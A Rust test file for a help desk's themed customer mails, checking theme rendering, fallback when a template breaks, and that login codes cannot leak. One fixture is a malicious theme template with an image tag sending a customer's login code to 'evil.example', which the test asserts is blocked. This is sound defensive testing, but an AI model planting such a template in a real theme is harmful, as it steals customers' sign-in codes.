//! Mails to customers look as the theme of their site says (T1), and never worse than its template (T4).

use desk::feed::Feed;
use desk::right::Role;
use desk::snippet::text_of;
use desk::theme::{Draft, Edit, Gate, Theme, Values, Version, facts};
use desk::{User, View};
use mail::Mail;
use serde_json::json;
use testkit::{Database, Exim, both};
use theme::Package;

use crate::shop::{Shop, read, smtp};
use crate::sign_in::ask;

/// A gate that stands open: what passes it is the story.
struct Open;

impl Gate for Open {
    async fn check(&self, _: &Package, _: &Values) -> Result<(), String> {
        Ok(())
    }
}

impl Shop {
    /// Shows a theme with these files of its own.
    async fn show_theme(&self, files: &[(&str, &str)]) {
        let manager = self.kit.user("Tom Theme", &[Role::ContentManager]).await;
        let mut act = self.kit.act(&manager);
        let id = act.make_theme(self.kit.kb.id, "midtown", "Ours").await.unwrap();
        act.done(()).await.unwrap();
        let view: View<User> = self.kit.view(&manager).await;
        let made: Theme = view.see(id).await.unwrap();
        view.close();
        let files = files.iter().map(|(path, text)| ((*path).to_owned(), (*text).to_owned().into()));
        let values = serde_json::from_value(json!({ "design.accent": "#a30" })).unwrap();
        let draft = Draft { base: Some(Version::new(1, 1, 0)), values, files: files.collect() };
        let checked = draft.check("midtown").await.unwrap();
        let mut act = self.kit.act(&manager);
        act.open::<Edit, Theme>(id).await.unwrap().save(&mut act, made.draft, &checked).await.unwrap();
        act.done(()).await.unwrap();
        let view: View<User> = self.kit.view(&manager).await;
        let saved: Theme = view.see(id).await.unwrap();
        let passed = view.pass(&saved, saved.draft, &Open).await.unwrap();
        let mut act = self.kit.act(&manager);
        act.open::<Edit, Theme>(id).await.unwrap().publish(&mut act, passed, saved.live).await.unwrap();
        act.done(()).await.unwrap();
        let mut act = self.kit.act(&manager);
        act.open::<Edit, Theme>(id).await.unwrap().activate(&mut act).await.unwrap();
        act.done(()).await.unwrap();
    }
}

const REPLY: &str = "{% extends \"mail/layout.html\" %}
{% block title %}{{ page.subject }}{% endblock %}
{% block main %}<h1>{{ snippet('sn.hello') }} #{{ page.number }}</h1>
<div>{{ page.html }}</div>
<p style=\"color: {{ color(theme.design.accent) }}\"><a href=\"{{ shell.home_url }}\">{{ shell.brand.name }}</a></p>
<p>{{ page.author }}</p>{% endblock %}";

#[both]
async fn t1_an_answer_looks_as_the_theme_says_and_its_text_says_the_same(database: Database) {
    let Some(exim) = Exim::start().await else { return };
    let shop = Shop::open(&database).await;
    let manager = shop.kit.user("Sue Snippet", &[Role::ContentManager]).await;
    let mut act = shop.kit.act(&manager);
    let texts = [("en_us".parse().unwrap(), text_of("Ahoy <you>").unwrap())].into();
    act.add_snippet(&"sn.hello".parse().unwrap(), &texts).await.unwrap();
    act.done(()).await.unwrap();
    shop.show_theme(&[("mail/reply.html", REPLY)]).await;
    let conversation = shop.anas().await;
    let typed = "**Both** are [here](https://acme.test/sizes):\n\n1. the short one\n2. the long one";
    shop.answer(conversation, typed, Vec::new()).await;
    assert_eq!(shop.worker(smtp(exim.port())).run_ready().await.unwrap(), 1);
    let mail = read(&exim.mails(1).await[0]);
    let (text, html) = (mail.text.unwrap(), mail.html.unwrap());
    assert!(
        html.contains("<h1>Ahoy &lt;you&gt; #1001</h1>") && html.contains("<strong>Both</strong>"),
        "{html}"
    );
    assert!(html.contains("style=\"color: #aa3300\"") && html.contains("4px solid #aa3300"), "{html}");
    let said = "Ahoy <you> #1001\n\nBoth are here <https://acme.test/sizes>:\n\n1. the short one\n2. the long one\n\n\
                Acme Help\nhttps://help.acme.test/en_us\n\nMara Lindqvist";
    assert_eq!(text.trim_end(), said);
}

/// Those who manage themes hear which line, and not what a customer reads.
#[both]
async fn t4_th17_a_mail_that_cannot_be_drawn_leaves_as_the_template_has_it_and_its_keepers_are_told(
    database: Database,
) {
    let Some(exim) = Exim::start().await else { return };
    let shop = Shop::open(&database).await;
    shop.show_theme(&[("mail/reply.html", "<p>\n{{ asset(page.subject ~ page.html) }}</p>")]).await;
    let conversation = shop.anas().await;
    shop.answer(conversation, "The pole leaves today.", Vec::new()).await;
    let mut feed = Feed::from_now(&shop.kit.desk).await.unwrap();
    let worker = shop.worker(smtp(exim.port()));
    worker.run_ready().await.unwrap();
    let answer = read(&exim.mails(1).await[0]);
    assert!(answer.text.unwrap().starts_with("The pole leaves today.\n\nMara Lindqvist\nAcme Help\n"));
    // Who keeps themes is told beside the mail that left.
    while !feed.next().await.unwrap().iter().any(|fact| fact.name == facts::BROKEN) {}
    worker.run_ready().await.unwrap();
    let mails: Vec<Mail> = exim.mails(2).await.iter().map(|raw| read(raw)).collect();
    let told = mails.iter().find(|mail| mail.subject.as_str().contains("theme")).expect("somebody was told");
    assert!(told.to[0].address.as_str().starts_with("tom"), "{:?}", told.to);
    let text = told.text.as_deref().unwrap();
    assert!(text.contains("Ours") && text.contains("mail/reply.html:2"), "{text}");
    let whole = format!("{text}{}", told.html.as_deref().unwrap());
    assert!(!whole.contains("Tent pole") && !whole.contains("leaves today"), "{whole}");
}

/// Whoever writes themes does not read along: a code is not an address's part, nor what a style fetches.
#[both]
async fn th6_a_code_leaves_in_no_mail_that_would_tell_it_elsewhere(database: Database) {
    let Some(exim) = Exim::start().await else { return };
    let shop = Shop::open(&database).await;
    let told = "<html lang=\"en\"><title>A</title><body><p>Stolen: {{ page.code }}</p>\
                <img alt=\"\" src=\"https://evil.example/{{ page.code }}.png\"></body></html>";
    shop.show_theme(&[("mail/code.html", told)]).await;
    ask(&shop, "ana@customer.test", "en_us").await;
    shop.worker(smtp(exim.port())).run_ready().await.unwrap();
    let raw = exim.mails(1).await.remove(0);
    assert!(!String::from_utf8_lossy(&raw).contains("evil.example"));
    let mail = read(&raw);
    assert!(mail.html.unwrap().contains("https://help.acme.test/login/link/"));
    assert!(!mail.text.unwrap().contains("Stolen"));
}
